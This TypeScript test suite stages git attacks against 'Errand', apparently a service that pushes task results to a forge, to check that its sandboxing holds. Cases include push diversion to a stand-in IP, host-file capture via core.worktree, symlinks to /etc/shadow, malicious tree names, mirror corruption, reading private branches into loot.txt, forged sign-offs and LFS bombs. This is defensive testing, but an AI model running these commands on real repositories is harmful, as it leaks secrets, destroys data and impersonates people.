import { createHash } from 'node:crypto';
import { access, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Attack } from '../attack.ts';
import { forgeRepository, gitIn, onForge } from '../observers/forge-git.ts';
import type { Stage } from '../stage.ts';

const trusting = {
  weakness: 'trusting-import',
  without: 'quarantine and re-commit: git fetch and push of all it left',
};

/** Paths that git must never get as its own, in the trees of all objects that Errand's repository of this task holds. */
async function strangeTrees(stage: Stage, task: string): Promise<readonly string[]> {
  const repository = join(stage.at.tasksDir, `${task}.git`);
  const all = await gitIn(repository, 'cat-file', '--batch-all-objects', '--batch-check=%(objectname) %(objecttype)');
  const trees = all.split('\n').flatMap((line) => (line.endsWith(' tree') ? [line.slice(0, 40)] : []));
  const listed = await Promise.all(trees.map((tree) => gitIn(repository, 'ls-tree', '-z', '--name-only', tree)));
  return [...new Set(listed.flatMap((names) => names.split('\0')))].filter((name) =>
    /^(?:\.git|\.\.|git~1|\.g\u200cit)$/i.test(name),
  );
}

/** Kills the worker, and waits until the next one has taken its runs up. */
async function restartWorker(stage: Stage): Promise<void> {
  const { errand } = stage;
  const attended = async () => (await errand.log()).split('Run attended').length;
  const known = await attended();
  process.kill(await workerOf(errand.process.pid ?? 0), 'SIGKILL');
  await stage.until('the next worker', async () => (await attended()) > known);
}

async function workerOf(supervisor: number): Promise<number> {
  const children = await readFile(`/proc/${supervisor}/task/${supervisor}/children`, 'utf8');
  for (const pid of children.trim().split(' ')) {
    const command = await readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '');
    if (command.split('\0').includes('worker')) return Number(pid);
  }
  throw new Error('No worker runs');
}

const existing = (path: string) =>
  access(path).then(
    () => true,
    () => false,
  );

export const attacks: readonly Attack[] = [
  {
    id: 'G18',
    title: 'pushurl and insteadOf that divert a push',
    expected: 'nothing reaches another address',
    attack: async (stage) => {
      const url = `${stage.errand.forge.url}/${stage.repository}.git`;
      await stage.play(
        `git config remote.origin.url ${url}; git config remote.origin.pushurl http://198.51.100.7/${stage.word}/x.git
git config url.http://198.51.100.7/${stage.word}/.insteadOf ${stage.errand.forge.url}/; echo x > x.txt`,
      );
      const seen = stage.canaries.seen(stage.word);
      return {
        through: seen.length > 0,
        seen: seen.length > 0 ? `${seen.length} calls elsewhere` : 'no call elsewhere',
      };
    },
    control: { weakness: 'naive-git', without: 'bundle: git fetch and push by the checkout’s own remote' },
  },
  {
    id: 'G19',
    title: 'core.worktree, to commit files of the host',
    expected: 'no file of the host in any object',
    attack: async (stage) => {
      const content = `host secret ${stage.word}\n`;
      await writeFile(join(stage.folder, 'secret.txt'), content);
      const object = createHash('sha1').update(`blob ${content.length}\0${content}`).digest('hex');
      const workspace = await stage.hold(
        `git config core.worktree ${stage.folder}; echo x > x.txt`,
        async (live) => live.workspace,
      );
      const loose = join(workspace, 'repo/.git/objects', object.slice(0, 2), object.slice(2));
      const refs = await gitIn(forgeRepository(stage), 'cat-file', '-e', object).then(
        () => true,
        () => false,
      );
      const through = refs || (await existing(loose));
      return { through, seen: through ? 'a file of the host became an object' : 'no object of it' };
    },
    control: { weakness: 'naive-git', without: 'bundle: git add and commit in the checkout, on the host' },
  },
  {
    id: 'G20',
    title: 'trees with .git, .., .GIT, git~1 and HFS letters',
    expected: 'import refused, no such tree kept',
    attack: async (stage) => {
      const task = await stage.play(
        `git config core.protectNTFS false; git config core.protectHFS false
blob=$(echo x | git hash-object -w --stdin)
bad=$(printf '100644 blob %s\\t.git\\n100644 blob %s\\t..\\n' $blob $blob | git mktree --missing)
worse=$(printf '100644 blob %s\\t.GIT\\n' $blob | git mktree --missing)
tree=$( { git ls-tree HEAD; printf '040000 tree %s\\ta\\n040000 tree %s\\tb\\n' $bad $worse; } | git mktree --missing)
git reset -q --soft $(git -c user.name=a -c user.email=a@b commit-tree $tree -p HEAD -m bad)
mkdir -p 'git~1' "$(printf '.g\\342\\200\\214it')"; echo x > 'git~1/config'; echo x > "$(printf '.g\\342\\200\\214it')/config"
git add -A; git -c user.name=a -c user.email=a@b commit -qm fine`,
      );
      const found = await strangeTrees(stage, task.id);
      return { through: found.length > 0, seen: found.length > 0 ? `kept ${found.join(' ')}` : 'none kept' };
    },
    control: trusting,
  },
  {
    id: 'G21',
    title: 'a new gitlink, .gitmodules with a carriage return',
    expected: 'refused before the push',
    attack: async (stage) => {
      const task = await stage.play(
        `git init -q sub; git -C sub -c user.name=a -c user.email=a@b commit -q --allow-empty -m x
printf '[submodule "sub"]\\n\\tpath = "sub\\r"\\n\\turl = ../x\\n' > .gitmodules
git add -A; git -c user.name=a -c user.email=a@b commit -qm 'Add a submodule'`,
      );
      const tree = (await onForge(stage, task.branch, 'ls-tree', '-r')) ?? '';
      const through = /^160000|\t\.gitmodules$/m.test(tree);
      return { through, seen: through ? 'a submodule on the branch' : 'no branch with it' };
    },
    control: trusting,
  },
  {
    id: 'G22',
    title: 'links that lead out of the checkout',
    expected: 'never followed, named to the reviewer',
    attack: async (stage) => {
      const task = await stage.play('ln -s /etc/shadow absolute; ln -s ../../../etc/passwd escaping; echo x > x.txt');
      const tree = (await onForge(stage, task.branch, 'ls-tree', '-r')) ?? '';
      const pushed = tree.split('\n').filter((line) => line.startsWith('120000')).length;
      const thread = stage.thread();
      const named = ['absolute', 'escaping'].every((name) => new RegExp(`${name}.*leads out`).test(thread));
      return { through: pushed > 0 && !named, seen: named ? 'both named as leading out' : 'pushed without a word' };
    },
    control: trusting,
  },
  {
    id: 'G23',
    title: 'records that are a link to a file of the host',
    timeoutMs: 180_000,
    expected: 'not followed, nothing of it shown',
    attack: async (stage) => {
      await using own = await stage.apart({});
      const records = [
        { n: 1_000_001, at: 1, type: 'note', text: stage.word },
        {
          ...{ n: 1_000_002, at: 1, type: 'result' },
          result: { type: 'finished', exitCode: 0, claim: stage.word, unread: [] },
        },
      ];
      await writeFile(join(stage.folder, 'host.jsonl'), records.map((each) => `${JSON.stringify(each)}\n`).join(''));
      await own.hold(
        `cd /workspace/records; for each in *.jsonl; do mv $each old; ln -s ${stage.folder}/host.jsonl $each; done`,
        // Whoever takes the run up after a crash opens its records anew.
        async () => restartWorker(own),
      );
      const through = own.thread().includes(stage.word);
      return { through, seen: through ? 'the file’s words in the thread' : 'nothing of the file' };
    },
    control: { weakness: 'follows-links', without: 'O_NOFOLLOW at each step of the path' },
  },
  {
    id: 'G24',
    title: 'a pack of some kilobytes that unpacks to 60 MB',
    expected: 'refused at the cap',
    attack: async (stage) => {
      const task = await stage.play(
        `truncate -s 60000000 zeros.bin; git add -A; git -c user.name=a -c user.email=a@b commit -qm zeros`,
      );
      const tree = (await onForge(stage, task.branch, 'ls-tree', '-r', '-l')) ?? '';
      const through = tree.includes('60000000');
      return { through, seen: through ? '60 MB on the branch' : 'nothing pushed' };
    },
    control: trusting,
  },
  {
    id: 'G25',
    title: 'history of its own, other branches, tags, notes',
    expected: 'one branch, built on the base',
    attack: async (stage) => {
      const at = forgeRepository(stage);
      const task = await stage.play(
        `export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
git tag v9.9.9; git branch release; git notes add -m note; git checkout -q --orphan lone; echo x > x.txt; git add -A; git commit -qm lone`,
      );
      const refs = (await gitIn(at, 'for-each-ref', '--format=%(refname)')).split('\n');
      const expected = ['refs/heads/main', `refs/heads/${task.branch}`];
      const extra = refs.filter((ref) => !expected.includes(ref) && !ref.startsWith('refs/pull/'));
      const grown = await gitIn(at, 'merge-base', '--is-ancestor', 'main', task.branch).then(
        () => true,
        () => false,
      );
      return {
        through: extra.length > 0 || !grown,
        seen:
          extra.length > 0
            ? `also ${extra.join(' ')}`
            : grown
              ? 'one branch on the base'
              : 'a branch of its own history',
      };
    },
    control: trusting,
  },
  {
    id: 'G26',
    title: 'the shared mirror, overwritten through its objects',
    expected: 'the mirror is whole afterwards',
    attack: async (stage) => {
      await stage.play(
        `t=$(head -1 .git/objects/info/alternates); m=$(head -1 "$t/info/alternates")
for each in $(find "$m" "$t" -type f); do printf garbage > "$each"; rm -f "$each"; done 2>/dev/null; echo x > x.txt`,
      );
      const mirrors = await mirrorsOf(stage);
      if (mirrors.length === 0) throw new Error('No mirror was made');
      const broken = await Promise.all(
        mirrors.map((mirror) =>
          gitIn(mirror, 'fsck', '--full').then(
            () => false,
            () => true,
          ),
        ),
      );
      const through = broken.some((each) => each);
      return { through, seen: through ? 'fsck finds it broken' : 'fsck is clean' };
    },
    control: {
      weakness: 'writable-mirror',
      without: 'read-only mount: the mirror as it is shared by a clone’s hard links',
    },
  },
  {
    id: 'G27',
    title: 'other branches, read through the mirror',
    expected: 'only what the base reaches is there',
    attack: async (stage) => {
      const { repository } = stage;
      await stage.errand.forge.control.commit({
        repository,
        branch: 'private',
        files: { 'private.txt': `private ${stage.word}\n` },
        message: 'Private',
      });
      const task = await stage.play(
        `t=$(head -1 .git/objects/info/alternates); m=$(head -1 "$t/info/alternates")
for each in "\${t%/objects}" "\${m%/objects}" .git; do
  git --git-dir="$each" cat-file --batch-all-objects --batch; git --git-dir="$each" log --all -p; done > loot.txt 2>/dev/null; true`,
      );
      const tree = await onForge(stage, task.branch, 'rev-parse');
      const loot = tree === undefined ? '' : await gitIn(forgeRepository(stage), 'show', `${tree}:loot.txt`);
      const through = loot.includes(stage.word);
      return { through, seen: through ? 'the private branch was read' : 'nothing of it' };
    },
    control: { weakness: 'whole-mirror', without: 'mirror of one branch: all branches are fetched' },
  },
  {
    id: 'G28',
    title: 'a commit in another’s name, with their sign-off',
    expected: 'committed by the bot, for who asked',
    representative: true,
    attack: async (stage) => {
      const task = await stage.play(
        `echo x > x.txt; git add -A
GIT_AUTHOR_NAME='The Boss' GIT_AUTHOR_EMAIL=boss@example.com GIT_AUTHOR_DATE='2001-01-01T00:00:00Z' \\
GIT_COMMITTER_NAME='The Boss' GIT_COMMITTER_EMAIL=boss@example.com git commit -qm 'Change

Signed-off-by: The Boss <boss@example.com>
Co-authored-by: The Boss <boss@example.com>'`,
      );
      const log = (await onForge(stage, task.branch, 'log', '-1', '--format=%an <%ae>, %cn <%ce>, %ad%n%B')) ?? '';
      const through = log.includes('boss@example.com');
      return { through, seen: through ? 'in the boss’s name' : `by ${log.split(' ')[0] ?? 'nobody'}` };
    },
    control: trusting,
  },
  {
    id: 'G29',
    title: 'closing words, mentions, [skip ci], trailers, escapes',
    expected: 'words that do nothing',
    attack: async (stage) => {
      const task = await stage.play(
        `echo x > x.txt; git add -A; git -c user.name=a -c user.email=a@b commit -qm "$(printf 'Fixes #1 [skip ci] @acme/owners \\033[31m\\n\\nRelease-As: 9.9.9')"`,
        { text: 'Fixes #1 [skip ci] @acme/owners Play the attack' },
      );
      const log = (await onForge(stage, task.branch, 'log', '-1', '--format=%B')) ?? '';
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
      const found = [/Fixes #1/, /\[skip ci\]/, /@acme/, /^Release-As:/m, /\u001b/].filter((each) => each.test(log));
      if (log === '') throw new Error('Nothing was pushed');
      return { through: found.length > 0, seen: found.length > 0 ? `${found.length} of 5 in force` : 'none in force' };
    },
    control: trusting,
  },
  {
    id: 'G30',
    title: '5,000 branches and a 10 GB LFS file to clone',
    expected: 'one branch is fetched, LFS never asked',
    attack: async (stage) => {
      const { repository } = stage;
      const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 10000000000\n`;
      const head = await stage.errand.forge.control.commit({
        repository,
        files: {
          '.gitattributes': '*.bin filter=lfs diff=lfs merge=lfs -text\n',
          '.lfsconfig': `[lfs]\n\turl = http://198.51.100.7/${stage.word}\n`,
          'huge.bin': pointer,
        },
        message: 'Add a bomb',
      });
      const lines = Array.from({ length: 5_000 }, (_, n) => `${head} refs/heads/many/${n}\n`);
      await writeFile(
        join(forgeRepository(stage), 'packed-refs'),
        `# pack-refs with: sorted\n${lines.toSorted().join('')}`,
      );
      await stage.play('echo x > x.txt');
      const mirrors = await mirrorsOf(stage);
      const refs = await Promise.all(mirrors.map((mirror) => gitIn(mirror, 'for-each-ref', '--format=%(refname)')));
      const count = refs.flatMap((text) => text.split('\n')).length;
      const asked = stage.canaries.seen(stage.word).length;
      return { through: count > 1 || asked > 0, seen: `${count} branches in the mirror, LFS asked ${asked} times` };
    },
    control: { weakness: 'whole-mirror', without: 'mirror of one branch: all branches are fetched' },
  },
];

/** Errand's mirrors of this case's repository. */
async function mirrorsOf({ at, repository }: Stage): Promise<readonly string[]> {
  const found = await readdir(at.mirrorsDir, { recursive: true });
  return found
    .filter((path) => new RegExp(`${repository}/[^/]+\\.git$`).test(path))
    .map((path) => join(at.mirrorsDir, path));
}
